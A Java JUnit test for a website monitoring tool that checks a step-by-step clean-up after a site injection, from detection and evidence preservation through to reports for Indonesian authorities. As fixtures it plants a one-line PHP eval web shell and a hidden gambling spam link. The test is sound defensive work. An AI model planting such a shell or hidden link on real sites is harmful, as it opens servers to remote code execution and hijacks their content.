package id.jagasitus.webapp;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The clean-up after an injection, walked from the finding through every stage in its order to the
 * package for the authorities, with a hidden footer and the program that let it in.
 */
abstract class CleanupContract {

  private static final String PAGE = "profil/sejarah.html";
  private static final String SHELL = "gambar/foto.php";
  private static final String HISTORY =
      """
      <!doctype html>
      <html lang="id"><head><title>Sejarah</title></head><body>
      <h1>Sejarah pengadilan</h1>
      <p>Pengadilan ini berdiri sejak tahun 1965.</p>
      </body></html>
      """;
  private static final String INFECTED =
      HISTORY.replace(
          "</body>",
          "<div style=\"display:none\"><a href=\"https://promo.example/\">slot gacor hari"
              + " ini</a></div></body>");

  /** The index takes new requests in once a second. */
  private static final Duration SEARCHABLE = Duration.ofSeconds(20);

  private static final String PROGRAM = "<?php @eval($_POST['x']);";

  @TempDir Path folder;
  private Path site;

  abstract Visitor browse(URI server);

  @BeforeEach
  void makeSite() throws IOException {
    site = Files.createDirectories(folder.resolve("situs"));
    write("index.html", HISTORY.replace("Sejarah", "Beranda"));
    write(PAGE, HISTORY);
  }

  @Test
  void injection_isCleanedUpStageByStageAndReported() throws Exception {
    Path home = folder.resolve("home");
    try (Container container = JettyContainer.start(new Container.Setup(home, true, false), site)) {
      var server = URI.create("http://localhost:" + container.port() + "/");
      String code = Files.readString(home.resolve("setup-code.txt")).strip();
      try (Staff budi = Staff.first("budi", browse(server), code)) {
        prepare(budi);
        infect(budi, server);
        String guide = begin(budi);
        preserve(budi, guide);
        closeTheDoor(budi);
        restoreTooLittle(budi, guide);
        scanAgain(budi, guide);
        tell(budi, guide);
        backUp(budi, guide);
      }
    }
  }

  private void write(String path, String content) throws IOException {
    Path file = site.resolve(path);
    Files.createDirectories(file.getParent());
    Files.writeString(file, content);
  }

  private static void prepare(Staff budi) {
    budi.open("/cadangan/kunci");
    budi.complete("/kunci/siapkan", Map.of());
    budi.open("/cadangan");
    budi.complete("/cadangan/buat", Map.of());
    ShowContract.until(() -> ShowContract.idle(budi));
    look(budi);
  }

  private static void look(Staff budi) {
    budi.open("/pantauan");
    budi.complete("/pantauan/periksa", Map.of());
  }

  /** A visitor of the hijacked page is part of the report. */
  private void infect(Staff budi, URI server) throws Exception {
    write(PAGE, INFECTED);
    write(SHELL, PROGRAM);
    try (HttpClient stranger = HttpClient.newHttpClient()) {
      HttpRequest request = HttpRequest.newBuilder(server.resolve("/" + PAGE)).build();
      stranger.send(request, HttpResponse.BodyHandlers.discarding());
    }
    look(budi);
    assertTrue(budi.text().contains("slot gacor hari ini"), budi::text);
  }

  /** From the list of findings to the guide; answers with where it is. */
  private static String begin(Staff budi) {
    budi.open("/temuan");
    String finding =
        budi.visitor().all("main a").stream()
            .filter(link -> link.startsWith("Isi sisipan di situs"))
            .findFirst()
            .orElseThrow(() -> new AssertionError(budi.text()));
    budi.visitor().follow(finding.strip());
    budi.visitor().follow("Mulai pembersihan");
    assertEquals("Pembersihan sesudah penyisipan", budi.visitor().heading());
    assertTrue(budi.text().contains("Jangan memulihkan lebih dahulu"), budi::text);
    String number = finding.substring(finding.indexOf('#') + 1).strip();
    return "/pantauan/bersihkan?temuan=" + number;
  }

  /** Signs the one stage that may be signed. */
  private static void sign(Staff budi, String stage, String note) {
    List<String> open =
        budi.visitor().all("main ol > li").stream()
            .filter(line -> line.contains("Tandatangani langkah ini"))
            .toList();
    assertEquals(1, open.size());
    assertTrue(open.getFirst().contains(stage), open::toString);
    budi.complete("/pantauan/bersihkan", Map.of("keterangan", note));
  }

  private static void signed(Staff budi, String stage, String note) {
    sign(budi, stage, note);
    told(budi, note);
  }

  /** Nothing is asked for over the network here: what is served cannot be seen. */
  private static void explained(Staff budi, String stage, String note) {
    sign(budi, stage, note);
    assertTrue(budi.text().contains("Belum ditandatangani: "), budi::text);
    String reason = "Alamat publik belum diisi";
    budi.complete("/pantauan/bersihkan", Map.of("keterangan", note, "sebab", reason));
    told(budi, note);
    assertTrue(budi.text().contains("Tanpa bukti di sini: " + reason), budi::text);
  }

  private static void told(Staff budi, String note) {
    assertTrue(budi.text().contains("Langkah ditandatangani."), budi::text);
    assertTrue(budi.text().contains(note), budi::text);
  }

  private static void preserve(Staff budi, String guide) throws IOException {
    signed(budi, "Amankan bukti", "Cakram server disalin ke diska luar");
    Map<String, String> kept = zip(budi, guide.replace("bersihkan", "bukti"));
    assertEquals(INFECTED, kept.get("berkas/" + PAGE + ".bukti"));
    assertEquals(PROGRAM, kept.get("berkas/" + SHELL + ".bukti"));
    String notice = text(budi.visitor().fetch("/admin/pantauan/pemberitahuan"));
    assertTrue(notice.contains("Situs sedang dipelihara"), notice);
    explained(budi, "Pasang halaman pemberitahuan", "503.html dipasang di server depan");
  }

  private static void closeTheDoor(Staff budi) {
    assertTrue(budi.text().contains("/" + SHELL), budi::text);
    signed(budi, "Temukan dan tutup pintu masuk", "Formulir unggah foto ditutup");
    assertFalse(budi.text().contains("Jangan memulihkan lebih dahulu"), budi::text);
  }

  /** The page is put back, the program is forgotten; the scan must say so. */
  private void restoreTooLittle(Staff budi, String guide) throws IOException {
    undo(budi, PAGE);
    assertEquals(HISTORY, Files.readString(site.resolve(PAGE)));
    budi.open(guide);
    signed(budi, "Pulihkan isi yang disetujui", "Halaman sejarah dikembalikan");
    signed(budi, "ganti semua kata sandi", "Kata sandi hosting dan CMS diganti");
    sign(budi, "Pindai sekali lagi", "Dipindai oleh Admin");
    assertTrue(budi.text().contains("masih ada 1 tempat"), budi::text);
  }

  private static void undo(Staff budi, String path) {
    budi.visitor().follow("/" + path);
    budi.complete("/perubahan/pulihkan", Map.of());
    assertTrue(budi.text().contains(path + " dipulihkan"), budi::text);
  }

  private void scanAgain(Staff budi, String guide) {
    undo(budi, SHELL);
    assertFalse(Files.exists(site.resolve(SHELL)));
    budi.open(guide);
    explained(budi, "Pindai sekali lagi", "Dipindai oleh Admin dan PTIP");
  }

  /** Whether the request for the page is told; it can be searched a moment after it was made. */
  private static boolean asked(Map<String, String> report) {
    return report.getOrDefault("permintaan.csv", "").contains("127.0.0.0");
  }

  private static void tell(Staff budi, String guide) throws IOException {
    Map<String, String> report = zip(budi, guide.replace("bersihkan", "laporan"));
    long until = System.nanoTime() + SEARCHABLE.toNanos();
    while (!asked(report) && System.nanoTime() < until) {
      report = zip(budi, guide.replace("bersihkan", "laporan"));
    }
    for (String reader : List.of("ma-csirt.txt", "bssn.txt", "komdigi.txt")) {
      String letter = report.getOrDefault(reader, "");
      assertTrue(letter.contains("/" + PAGE), letter);
      assertTrue(letter.contains("pintu masuk ditemukan dan ditutup"), letter);
      assertTrue(letter.contains("hxxps://promo.example/"), letter);
    }
    assertTrue(asked(report), report::toString);
    assertEquals(report.size() - 1, report.getOrDefault("SHA256SUMS", "").lines().count());
    assertFalse(report.keySet().stream().anyMatch(name -> name.endsWith(".bukti")));
    signed(budi, "Beri tahu mesin pencari dan instansi", "Laporan MA-CSIRT nomor 77");
  }

  /** A backup from before the scan proves nothing, nor does a baseline nobody approved. */
  private static void backUp(Staff budi, String guide) {
    sign(budi, "Buat cadangan dan acuan baru", "Cadangan lama masih ada");
    assertTrue(budi.text().contains("belum ada cadangan utuh tanpa tanda"), budi::text);
    budi.visitor().follow("Buka Cadangan");
    budi.complete("/cadangan/buat", Map.of());
    ShowContract.until(() -> ShowContract.idle(budi));
    budi.open(guide);
    sign(budi, "Buat cadangan dan acuan baru", "Cadangan diambil");
    assertTrue(budi.text().contains("acuan belum disetujui"), budi::text);
    budi.open("/perubahan");
    budi.complete("/perubahan/setujui", Map.of());
    budi.open(guide);
    signed(budi, "Buat cadangan dan acuan baru", "Cadangan diambil, acuan disetujui");
    assertTrue(budi.text().contains("Semua langkah sudah ditandatangani."), budi::text);
    assertEquals(List.of(), budi.visitor().all("main ol form"));
    budi.visitor().follow("Beri putusan pada temuannya, dan tutup insidennya bila ada.");
    assertEquals("/admin/temuan/satu", budi.visitor().path());
  }

  private static Map<String, String> zip(Staff budi, String path) throws IOException {
    var files = new LinkedHashMap<String, String>();
    var bytes = new ByteArrayInputStream(budi.visitor().fetch("/admin" + path));
    try (var zip = new ZipInputStream(bytes, StandardCharsets.UTF_8)) {
      for (ZipEntry at = zip.getNextEntry(); at != null; at = zip.getNextEntry()) {
        files.put(at.getName(), text(zip.readAllBytes()));
      }
    }
    return files;
  }

  private static String text(byte[] bytes) {
    return new String(bytes, StandardCharsets.UTF_8);
  }
}
